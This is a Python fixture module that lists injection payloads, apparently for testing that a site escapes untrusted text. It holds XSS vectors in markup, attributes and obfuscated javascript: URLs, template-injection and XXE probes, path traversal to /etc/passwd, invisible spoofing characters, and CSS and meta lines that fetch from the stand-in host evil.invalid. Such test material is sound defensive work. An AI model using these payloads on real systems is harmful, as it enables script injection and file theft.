"""What is put where words are expected: markup, attributes, script, templates, paths, signs that nobody sees.

Each runs `owned()` in the page, or asks `evil.invalid` for something, if any of it is taken for more than words.
"""

from __future__ import annotations

MARKUP = (
    "<script>owned()</script>",
    "<SCRIPT SRC=//evil.invalid/a.js></SCRIPT>",
    "<script/src=data:,owned()>",
    "<scr<script>ipt>owned()</scr</script>ipt>",
    "<script>owned()//",
    "<img src=x onerror=owned()>",
    "<img/src=x/onerror=owned()//",
    "<img srcset='//evil.invalid/a.png 2x' src=//evil.invalid/b.png>",
    "<svg onload=owned()>",
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=owned()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=owned()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
    "<template><script>owned()</script></template>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<iframe src=javascript:parent.owned()></iframe>",
    "<object data='data:text/html,<script>owned()</script>'></object>",
    "<embed src=//evil.invalid/a.swf>",
    "<body onload=owned()>",
    "<details open ontoggle=owned()><summary>甲</summary></details>",
    "<input autofocus onfocus=owned()>",
    "<video><source onerror=owned() src=x></video>",
    "<marquee onstart=owned()>甲</marquee>",
    "<x id=x tabindex=1 onfocusin=owned()>甲</x>",
    "<a href=javascript:owned()>甲</a>",
    "<form action=javascript:owned()><button>甲</button></form>",
    "<form id=search-app><input name=q></form>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/a.css>",
    "<link rel=prefetch href=//evil.invalid/a>",
    "<style>@import '//evil.invalid/a.css';*{background:url(//evil.invalid/b)}</style>",
    "<div style='background:url(//evil.invalid/c)'>甲</div>",
    "<plaintext><xmp><listing>",
    "</title><script>owned()</script>",
    "</textarea><script>owned()</script>",
    "</style><script>owned()</script>",
    "</p></article></main></body></html><script>owned()</script>",
    "<!--><script>owned()</script>-->",
    "<!-- --!><img src=x onerror=owned()> -->",
    "<![CDATA[<script>owned()</script>]]>",
    "<?xml-stylesheet href='//evil.invalid/a.xsl'?>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "<ruby><rt><script>owned()</script>",
)
"""Tag soup."""

ATTRIBUTES = (
    '"><script>owned()</script>',
    "'><img src=x onerror=owned()>",
    '" autofocus onfocus="owned()" x="',
    "' onmouseover='owned()' x='",
    "` onerror=owned() `",
    '"/onpointerrawupdate=owned()//',
    'a" style="background:url(//evil.invalid/d)" b="',
    "甲\u3000onfocus=owned()\u3000乙",
)
"""What ends an attribute."""

REFERENCES = (
    "&lt;script&gt;owned()&lt;/script&gt;",
    "&#60;script&#62;owned()&#60;/script&#62;",
    "&#x3c;img src=x onerror=owned()&#x3e;",
    "&amp;lt;img src=x onerror=owned()&amp;gt;",
    "&quot; onfocus=owned() &apos; &NewLine;&Tab;&colon;",
    "%3Cscript%3Eowned()%3C/script%3E",
    "\\u003cscript\\u003eowned()\\u003c/script\\u003e",
    "+ADw-script+AD4-owned()+ADw-/script+AD4-",
    "＜script＞owned()＜/script＞",
    "&a;&b;&#xd800;&#0;&#99999999;",
)
"""What turns into markup when it is read once too often."""

DATA = (
    "</script><script>owned()</script>",
    "</SCRIPT ><script>owned()</script>",
    "<!--<script>",
    "<!--</script><script>owned()</script>",
    "]]><script>owned()</script><![CDATA[",
    '";owned();//',
    "'-owned()-'",
    '\\";owned();//',
    "*/owned()/*",
    '"},"@id":"javascript:owned()","x":{"y":"',
    "甲\u2028owned()\u2029乙",
    "${owned()} #{owned()} <%= owned() %>",
)
"""What ends a block of data: JSON-LD, feeds, e-books, the search index."""

TEMPLATES = (
    "{{ 7*191 }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ site.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{% raw %}{{ 7*191 }}{% endraw %}",
    "{# 甲 #}{%- if 1 -%}乙{%- endif -%}",
    "{0} {title} {title.__class__} %s %(title)s $title",
)
"""What templates run."""

PATHS = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//index",
    "con",
    ".htaccess",
    "a/../../b",
    "//evil.invalid/a",
)
"""What leads out of a folder."""

UNSEEN = (
    "\u202egpj.exe",
    "甲\u2066乙\u2069\u202c丙",
    "a\u200bb\u200cc\u200dd\u2060e",
    "\u00adjava\u00adscript",
    "甲\U000e0041\U000e007f乙",
    "甲\ufe0f\u0301\u0489乙",
    "\u180e\u061c\u115f\u3164",
    "аdmin（西里尔字母）",
)
"""Signs that turn text round or are not seen."""

STYLE = (
    "expression(owned())",
    "x:expression(owned())",
    "url(//evil.invalid/e)",
    "*{background:url(//evil.invalid/f)}",
    "@import url(//evil.invalid/g.css);",
)
"""What styles fetch or run."""

PAYLOADS = (*MARKUP, *ATTRIBUTES, *REFERENCES, *DATA, *TEMPLATES, *PATHS, *UNSEEN, *STYLE)

SCRIPTS = (
    "javascript:owned()",
    "JaVaScRiPt:owned()",
    "JAVASCRIPT:owned()",
    " javascript:owned()",
    "\u00a0javascript:owned()",
    "\u3000javascript:owned()",
    "\ufeffjavascript:owned()",
    "\u200bjavascript:owned()",
    "\u2028javascript:owned()",
    "java\tscript:owned()",
    "java&Tab;script:owned()",
    "java&#9;script:owned()",
    "java&#x0A;script:owned()",
    "java&#13;script:owned()",
    "java&NewLine;script:owned()",
    "&#1;javascript:owned()",
    "&#12;javascript:owned()",
    "&#x1F;javascript:owned()",
    "&#0;javascript:owned()",
    "\\javascript:owned()",
    "javascript\\:owned()",
    "javascript&colon;owned()",
    "javascript&#58;owned()",
    "javascript&#x3A;owned()",
    "javascript&#0000058owned()",
    "&#106;&#97;&#118;&#97;script:owned()",
    "&#x6a;avascript:owned()",
    "%6aavascript:owned()",
    "javascript%3Aowned()",
    "j\u00ada\u00advascript:owned()",
    "javascript :owned()",
    "javascript:&#47;&#47;%0aowned()",
    "javascript://evil.invalid/%0aowned()",
    "javascript:/*",
    "vbscript:owned()",
    "VbScript:owned()",
    "livescript:owned()",
    "mocha:owned()",
    "data:text/html,<script>owned()</script>",
    "data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+",
    "DATA:image/svg+xml,<svg/onload=owned()>",
    "data&colon;text/html,a",
    "blob:http://a/b",
    "file:///etc/passwd",
    "filesystem:http://a/b",
    "view-source:javascript:owned()",
    "jar:http://a!/b",
    "about:blank",
    "ws://evil.invalid/",
    "ftp://evil.invalid/",
    "intent:owned",
    "feed:javascript:owned()",
    "ｊavascript:owned()",
    "javascript：owned()",
    "?javascript:owned()",
    "#javascript:owned()",
    "./javascript:owned()",
    "//evil.invalid/a",
    "\\\\evil.invalid\\a",
    "https:javascript:owned()",
    "http://a@evil.invalid/",
    "https://a.cn/\"onfocus='owned()'",
    "mailto:a@b.cn?body=<script>",
    "tel:<script>owned()</script>",
)
"""Where a link may lead, in every dress."""
